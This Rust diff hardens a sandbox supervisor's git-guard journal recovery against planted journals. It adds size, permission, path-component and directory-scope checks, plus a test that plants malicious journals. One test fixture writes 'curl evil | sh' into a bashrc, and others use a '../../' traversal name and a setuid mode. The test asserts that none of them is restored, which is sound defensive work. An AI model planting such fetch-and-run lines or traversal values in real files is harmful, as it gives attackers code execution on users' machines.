@@ -513,6 +513,14 @@ impl GitGuard {
             "start": start_time(pid),
             "entries": entries,
         });
+        let record = record.to_string();
+        if record.len() as u64 > MAX_JOURNAL {
+            // A journal the next run would not read is not written.
+            return Err(io::Error::other(format!(
+                "the snapshot takes {} bytes, more than a journal holds ({MAX_JOURNAL})",
+                record.len()
+            )));
+        }
         let path = dir.join(format!("{}-{pid}.json", worktree_key(worktree)));
         let tmp = dir.join(format!(".{}-{pid}.tmp", worktree_key(worktree)));
         let mut f = std::fs::OpenOptions::new()
@@ -523,7 +531,7 @@ impl GitGuard {
             .open(&tmp)?;
         // No fsync: the journal guards against a killed supervisor, whose writes the page
         // cache keeps; an fsync costs tens of milliseconds on a busy disk at every start.
-        f.write_all(record.to_string().as_bytes())?;
+        f.write_all(record.as_bytes())?;
         std::fs::rename(&tmp, &path)?;
         self.journal = Some(path);
         Ok(())
@@ -664,26 +672,98 @@ fn state_json(s: &State) -> Value {
     }
 }
 
+/// A state read back from a journal: `None` for anything [`state_json`] does not write —
+/// a name that is not one component, a mode beyond the permission bits (a set-id bit), more
+/// entries than a guarded directory holds.
 fn state_from_json(v: &Value) -> Option<State> {
+    let mode = |v: &Value| v.as_u64().filter(|m| *m & !0o777 == 0).map(|m| m as u32);
     if v["absent"] == json!(true) {
         return Some(State::Absent);
     }
     if let Some(d) = v["file"].as_str() {
         return Some(State::File {
             data: unhex(d)?,
-            mode: v["mode"].as_u64()? as u32,
+            mode: mode(&v["mode"])?,
         });
     }
-    let entries = v["dir"].as_array()?;
+    let entries = v["dir"].as_array().filter(|e| e.len() <= MAX_ENTRIES)?;
     let mut out = Vec::new();
     for e in entries {
         out.push((
-            e["name"].as_str()?.to_string(),
+            e["name"].as_str().filter(|n| one_component(n))?.to_string(),
             unhex(e["file"].as_str()?)?,
-            e["mode"].as_u64()? as u32,
+            mode(&e["mode"])?,
         ));
     }
     Some(State::Dir(out))
+}
+
+/// A name of one path component (not empty, `.`, `..`, nor holding `/` or NUL).
+fn one_component(name: &str) -> bool {
+    !name.is_empty() && name != "." && name != ".." && !name.contains(['/', '\0'])
+}
+
+/// Largest journal written or read (64 MiB): guarded files are at most [`MAX_FILE`] each.
+const MAX_JOURNAL: u64 = 64 << 20;
+
+/// The directories a journal of one worktree may restore into, decided on the opened
+/// directory's identity (device, inode), never on a path the journal holds: the worktree,
+/// its gitdir and its common dir, and what lies beneath them. The gitdir and common dir are
+/// the ones the worktree's `.git` leads to now and the ones the journal's own copy of that
+/// pointer leads to, each validated as a run validates its layout (a `worktrees` parent, a
+/// back-link naming this worktree): a killed run may have left `.git` changed, which is what
+/// the journal puts back, and a planted journal cannot claim another repository's.
+struct JournalScope {
+    roots: Vec<(u64, u64)>,
+}
+
+impl JournalScope {
+    fn of(worktree: &Path, claimed_pointer: Option<&[u8]>) -> JournalScope {
+        let mut roots = Vec::new();
+        let Ok(wt) = paths::open_nofollow(worktree) else {
+            return JournalScope { roots };
+        };
+        roots.extend(paths::identity(&wt));
+        let mut dirs = Vec::new();
+        if let GitLayout::Linked { gitdir, common } = crate::git::discover(worktree, &wt) {
+            dirs.extend([gitdir, common]);
+        }
+        if let Some(Ok((gitdir, common))) =
+            claimed_pointer.map(|raw| crate::git::linked_from(worktree, raw))
+        {
+            dirs.extend([gitdir, common]);
+        }
+        for d in dirs {
+            if let Ok(fd) = paths::open_nofollow(&d) {
+                roots.extend(paths::identity(&fd));
+            }
+        }
+        JournalScope { roots }
+    }
+
+    /// Whether the directory `dir` is one of the roots or beneath one (its `..` chain, at most
+    /// 64 levels, meets one).
+    fn holds(&self, dir: &OwnedFd) -> bool {
+        let Ok(mut cur) = dir.try_clone() else {
+            return false;
+        };
+        for _ in 0..64 {
+            let Ok(id) = paths::identity(&cur) else {
+                return false;
+            };
+            if self.roots.contains(&id) {
+                return true;
+            }
+            let Ok(up) = paths::openat_dir_path(&cur, Path::new("..")) else {
+                return false;
+            };
+            if paths::identity(&up).ok() == Some(id) {
+                return false; // the root directory
+            }
+            cur = up;
+        }
+        false
+    }
 }
 
 /// Where journals live: `$XDG_STATE_HOME/shofer/git-guard` (or
@@ -691,13 +771,11 @@ fn state_from_json(v: &Value) -> Option<State> {
 /// mode 0700 and checked to be a real directory owned by us. `None` if none of them is usable
 /// or every candidate lies inside `writable` (the command could then edit the journal).
 pub fn journal_dir(writable: &[PathBuf]) -> Option<PathBuf> {
-    state_dir("git-guard", writable)
+    state_dir(JOURNAL_LEAF, writable)
 }
 
-/// Where journals may be, in order of preference (see [`journal_dir`]).
-pub fn journal_candidates() -> Vec<PathBuf> {
-    state_candidates("git-guard")
-}
+/// The state directory of journals (`git-guard`).
+pub const JOURNAL_LEAF: &str = "git-guard";
 
 /// The supervisor's own directory `leaf` for state that must outlive a killed run and that
 /// no sandboxed command may write: `$XDG_STATE_HOME/shofer/<leaf>` (or
@@ -707,33 +785,31 @@ pub fn journal_candidates() -> Vec<PathBuf> {
 /// `/var/tmp`: another run given it as its temporary directory (`TMPDIR=/var/tmp`) could
 /// plant entries there for a later run to trust.
 pub fn state_dir(leaf: &str, writable: &[PathBuf]) -> Option<PathBuf> {
-    // Safety: geteuid cannot fail.
-    let uid = unsafe { libc::geteuid() };
-    for c in state_candidates(leaf) {
-        let _ = std::fs::DirBuilder::new()
-            .recursive(true)
-            .mode_0700()
-            .create(&c);
-        let Ok(canon) = std::fs::canonicalize(&c) else {
-            continue;
-        };
-        // Neither inside a writable path nor holding one (a writable path within it would
-        // reach part of it).
-        if writable
-            .iter()
-            .any(|w| canon.starts_with(w) || w.starts_with(&canon))
-        {
-            continue;
-        }
-        let ok = std::fs::symlink_metadata(&canon).is_ok_and(|m| {
-            use std::os::unix::fs::MetadataExt;
-            m.is_dir() && m.uid() == uid && m.mode() & 0o022 == 0
-        });
-        if ok {
-            return Some(canon);
-        }
-    }
-    None
+    // The same check as every read of it ([`checked_state_dirs`]).
+    state_candidates(leaf)
+        .iter()
+        .find_map(|c| shofer_sys::statedir::create(c, writable).ok())
+        .map(|d| d.path)
+}
+
+/// The existing state directories `leaf` that pass the check [`state_dir`] makes (for
+/// reading what earlier runs left there: [`shofer_sys::statedir::check`]); one that exists
+/// and fails it is named on stderr, once per call, and not read.
+pub fn checked_state_dirs(leaf: &str, writable: &[PathBuf]) -> Vec<shofer_sys::statedir::StateDir> {
+    state_candidates(leaf)
+        .iter()
+        .filter(|c| std::fs::symlink_metadata(c).is_ok())
+        .filter_map(|c| match shofer_sys::statedir::check(c, writable) {
+            Ok(d) => Some(d),
+            Err(e) => {
+                eprintln!(
+                    "shofer-sandbox: warning: not reading what earlier runs left in {}: {e} (a state directory must be a directory of this user's that only it can write, outside every path a sandboxed command may write)",
+                    c.display()
+                );
+                None
+            }
+        })
+        .collect()
 }
 
 /// The places [`state_dir`] may choose for `leaf`, in order of preference.
@@ -750,36 +826,46 @@ pub fn state_candidates(leaf: &str) -> Vec<PathBuf> {
         .collect()
 }
 
-trait Mode0700 {
-    fn mode_0700(&mut self) -> &mut Self;
-}
-
-impl Mode0700 for std::fs::DirBuilder {
-    fn mode_0700(&mut self) -> &mut Self {
-        std::os::unix::fs::DirBuilderExt::mode(self, 0o700)
-    }
-}
-
-/// Finishes the restores that killed runs on `worktree` left in `dir`'s journals (their
-/// supervisor no longer alive). Returns what was done.
-pub fn repair(dir: &Path, worktree: &Path) -> Restored {
+/// Finishes the restores that killed runs on `worktree` left in the checked state directory
+/// `dir`'s journals (their supervisor no longer alive). Returns what was done.
+///
+/// Nothing read back is trusted because a supervisor wrote it (issue 29, F8): each journal
+/// is read relative to `dir` as a regular file of this user's with one link, not writable by
+/// group or others, at most [`MAX_JOURNAL`] bytes, opened without following a symlink and
+/// never blocking ([`shofer_sys::statedir::read_file`]); every entry must name a directory,
+/// opened without a symlink on its path, within this worktree's [`JournalScope`], and one
+/// component of it. A journal that fails any of this is ignored whole, with one line on
+/// stderr naming it: never acted on, and no reason to refuse the run.
+pub fn repair(dir: &shofer_sys::statedir::StateDir, worktree: &Path) -> Restored {
     let mut out = Restored::default();
     let prefix = format!("{}-", worktree_key(worktree));
-    let Ok(rd) = std::fs::read_dir(dir) else {
+    let Ok(names) = paths::list(&dir.fd) else {
         return out;
     };
-    for e in rd.flatten() {
-        let name = e.file_name().to_string_lossy().into_owned();
+    for name in names {
+        let Some(name) = name.to_str() else { continue };
         if !name.starts_with(&prefix) || !name.ends_with(".json") {
             continue;
         }
-        let path = e.path();
-        let Ok(text) = std::fs::read_to_string(&path) else {
-            continue;
+        let path = dir.path.join(name);
+        let ignore = |why: &str| {
+            eprintln!(
+                "shofer-sandbox: warning: ignoring the git-guard journal {}: {why}; nothing in it was restored",
+                path.display()
+            );
         };
-        let Ok(v) = serde_json::from_str::<Value>(&text) else {
-            out.failed.push((path.clone(), "unreadable journal".into()));
-            continue;
+        let v = match shofer_sys::statedir::read_file(&dir.fd, name, MAX_JOURNAL)
+            .map_err(|e| e.to_string())
+            .and_then(|raw| String::from_utf8(raw).map_err(|e| e.to_string()))
+            // from_str, as everywhere in the sandbox: from_slice would link a second copy of
+            // the JSON reader into the size-bounded static binary.
+            .and_then(|text| serde_json::from_str::<Value>(&text).map_err(|e| e.to_string()))
+        {
+            Ok(v) => v,
+            Err(e) => {
+                ignore(&e);
+                continue;
+            }
         };
         if v["worktree"].as_str() != worktree.to_str() {
             continue;
@@ -788,47 +874,78 @@ pub fn repair(dir: &Path, worktree: &Path) -> Restored {
         if pid > 0 && start_time(pid).is_some_and(|t| Some(t) == v["start"].as_u64()) {
             continue; // its supervisor still runs and will restore itself
         }
-        let mut entries = Vec::new();
-        for e in v["entries"].as_array().into_iter().flatten() {
-            let (Some(d), Some(n), Some(state)) = (
-                e["dir"].as_str(),
-                e["name"].as_str(),
-                state_from_json(&e["state"]),
-            ) else {
-                continue;
-            };
-            match paths::open_nofollow(Path::new(d)) {
-                Ok(fd) => entries.push(Guarded {
-                    dir: fd,
-                    dir_path: PathBuf::from(d),
-                    dir_mode: None,
-                    name: n.to_string(),
-                    original: state,
-                }),
-                Err(err) => out.failed.push((
-                    Path::new(d).join(n),
-                    format!("opening its directory: {err}"),
-                )),
+        match journal_entries(&v, worktree, &mut out) {
+            Ok(entries) => {
+                let guard = GitGuard {
+                    entries,
+                    dot_git: None,
+                    journal: None,
+                    nested: None,
+                    index: None,
+                    common_names: None,
+                    common_top_writable: true,
+                    notes: Vec::new(),
+                };
+                let r = guard.restore();
+                let clean = r.failed.is_empty();
+                out.merge(r);
+                if clean && out.failed.is_empty() {
+                    let _ = std::fs::remove_file(&path);
+                }
             }
-        }
-        let guard = GitGuard {
-            entries,
-            dot_git: None,
-            journal: None,
-            nested: None,
-            index: None,
-            common_names: None,
-            common_top_writable: true,
-            notes: Vec::new(),
-        };
-        let r = guard.restore();
-        let clean = r.failed.is_empty();
-        out.merge(r);
-        if clean && out.failed.is_empty() {
-            let _ = std::fs::remove_file(&path);
+            Err(why) => ignore(&why),
         }
     }
     out
+}
+
+/// The entries of the journal `v` of `worktree`, each checked (see [`repair`]): `Err` names
+/// the first that fails. A directory that is gone is a failed restore in `out`.
+fn journal_entries(v: &Value, worktree: &Path, out: &mut Restored) -> Result<Vec<Guarded>, String> {
+    let list = v["entries"].as_array().ok_or("no entries")?;
+    let mut parsed = Vec::new();
+    for e in list {
+        let (Some(d), Some(n), Some(state)) = (
+            e["dir"].as_str(),
+            e["name"].as_str(),
+            state_from_json(&e["state"]),
+        ) else {
+            return Err("an entry that is not one a journal holds".into());
+        };
+        if !one_component(n) {
+            return Err(format!("the entry name {n:?} is not one path component"));
+        }
+        parsed.push((PathBuf::from(d), n.to_string(), state));
+    }
+    // The journal's own copy of the worktree's `.git` pointer (its gitdir may be validated
+    // with it: see JournalScope).
+    let pointer = parsed.iter().find_map(|(d, n, s)| match s {
+        State::File { data, .. } if n == ".git" && d == worktree => Some(data.as_slice()),
+        _ => None,
+    });
+    let scope = JournalScope::of(worktree, pointer);
+    let mut entries = Vec::new();
+    for (d, n, state) in parsed {
+        match paths::open_nofollow(&d) {
+            Ok(fd) if !scope.holds(&fd) => {
+                return Err(format!(
+                    "it names {}, which is not in this worktree, its gitdir or its common dir",
+                    d.join(&n).display()
+                ))
+            }
+            Ok(fd) => entries.push(Guarded {
+                dir: fd,
+                dir_path: d,
+                dir_mode: None,
+                name: n,
+                original: state,
+            }),
+            Err(err) => out
+                .failed
+                .push((d.join(&n), format!("opening its directory: {err}"))),
+        }
+    }
+    Ok(entries)
 }
 
 /// The watcher: a thread that restores guarded entries as soon as they change (the Landlock
@@ -2020,10 +2137,11 @@ mod tests {
             unreachable!()
         };
         std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
+        let state = shofer_sys::statedir::check(&state, &[]).unwrap();
         // Our own journal belongs to a live process (us): left alone.
         assert!(repair(&state, &root).restored.is_empty());
         // As if this process had been killed: the recorded start time no longer matches.
-        let journal = std::fs::read_dir(&state)
+        let journal = std::fs::read_dir(&state.path)
             .unwrap()
             .next()
             .unwrap()
@@ -2041,5 +2159,121 @@ mod tests {
             "../..\n"
         );
         assert!(!journal.exists());
+    }
+
+    /// Issue 29 (F8): a journal is checked when read as when written, and restores only this
+    /// worktree's control files: one naming a file elsewhere (a `~/.bashrc`), a name that is
+    /// not one component, a set-id mode, or a journal file others may write, a second link
+    /// or a symlink is ignored whole and nothing in it is written.
+    #[test]
+    fn a_planted_journal_restores_nothing_outside_its_worktree() {
+        use std::os::unix::fs::PermissionsExt;
+        let (_t, root, layout) = setup();
+        let GitLayout::Linked { gitdir, .. } = &layout else {
+            unreachable!()
+        };
+        // A valid linked worktree: its gitdir is in the journal's scope.
+        let wt = root.join("wt");
+        std::fs::create_dir(&wt).unwrap();
+        std::fs::write(wt.join(".git"), format!("gitdir: {}\n", gitdir.display())).unwrap();
+        std::fs::write(gitdir.join("gitdir"), format!("{}/.git\n", wt.display())).unwrap();
+        let home = root.join("home");
+        std::fs::create_dir(&home).unwrap();
+        std::fs::write(home.join("bashrc"), "original\n").unwrap();
+        let state_path = root.join("state");
+        std::fs::create_dir(&state_path).unwrap();
+        let state = shofer_sys::statedir::check(&state_path, &[]).unwrap();
+        let key = worktree_key(&wt);
+        let plant = |n: u32, entry: Value, mode: u32| {
+            let path = state_path.join(format!("{key}-{n}.json"));
+            let record = json!({"worktree": wt, "pid": 0, "start": 0, "entries": [
+                {"dir": gitdir, "name": "commondir", "state": {"file": hex(b"../..\n"), "mode": 0o644}},
+                entry,
+            ]});
+            std::fs::write(&path, record.to_string()).unwrap();
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
+            path
+        };
+        let evil = json!({"file": hex(b"curl evil | sh\n"), "mode": 0o644});
+        let outside = plant(
+            1,
+            json!({"dir": home, "name": "bashrc", "state": evil}),
+            0o600,
+        );
+        let up = plant(
+            2,
+            json!({"dir": gitdir, "name": "../../../../home/bashrc", "state": evil}),
+            0o600,
+        );
+        let setuid = plant(
+            3,
+            json!({"dir": gitdir, "name": "config.worktree", "state": {"file": hex(b"x"), "mode": 0o4755}}),
+            0o600,
+        );
+        let shared = plant(
+            4,
+            json!({"dir": gitdir, "name": "config.worktree", "state": {"absent": true}}),
+            0o622,
+        );
+        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
+        let r = repair(&state, &wt);
+        assert!(r.restored.is_empty() && r.failed.is_empty(), "{r:?}");
+        assert_eq!(
+            std::fs::read_to_string(home.join("bashrc")).unwrap(),
+            "original\n"
+        );
+        assert!(!gitdir.join("config.worktree").exists());
+        assert_eq!(
+            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
+            "/evil\n"
+        );
+        for j in [&outside, &up, &setuid, &shared] {
+            assert!(
+                j.exists(),
+                "an ignored journal is not acted on, not even removed"
+            );
+            std::fs::remove_file(j).unwrap();
+        }
+        // A second link, and a symlink, to a journal that would be in scope.
+        let back = format!("{}/.git\n", wt.display());
+        let good = plant(
+            5,
+            json!({"dir": gitdir, "name": "gitdir", "state": {"file": hex(back.as_bytes()), "mode": 0o644}}),
+            0o600,
+        );
+        std::fs::hard_link(&good, root.join("elsewhere")).unwrap();
+        assert!(repair(&state, &wt).restored.is_empty());
+        std::fs::remove_file(root.join("elsewhere")).unwrap();
+        std::fs::rename(&good, root.join("real.json")).unwrap();
+        std::os::unix::fs::symlink(root.join("real.json"), &good).unwrap();
+        assert!(repair(&state, &wt).restored.is_empty());
+        assert_eq!(
+            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
+            "/evil\n"
+        );
+        // The same journal as a regular file of ours: restored.
+        std::fs::remove_file(&good).unwrap();
+        std::fs::rename(root.join("real.json"), &good).unwrap();
+        let r = repair(&state, &wt);
+        assert!(r.failed.is_empty(), "{r:?}");
+        assert_eq!(r.restored, vec![gitdir.join("commondir")]);
+        assert_eq!(
+            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
+            "../..\n"
+        );
+        assert!(!good.exists());
+        // With `.git` changed by the killed run, the journal's own copy of it leads to the
+        // gitdir: still restored.
+        std::fs::write(wt.join(".git"), "gitdir: /elsewhere\n").unwrap();
+        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
+        let pointer = format!("gitdir: {}\n", gitdir.display());
+        plant(
+            6,
+            json!({"dir": wt, "name": ".git", "state": {"file": hex(pointer.as_bytes()), "mode": 0o644}}),
+            0o600,
+        );
+        let r = repair(&state, &wt);
+        assert!(r.failed.is_empty() && r.restored.len() == 2, "{r:?}");
+        assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), pointer);
     }
 }
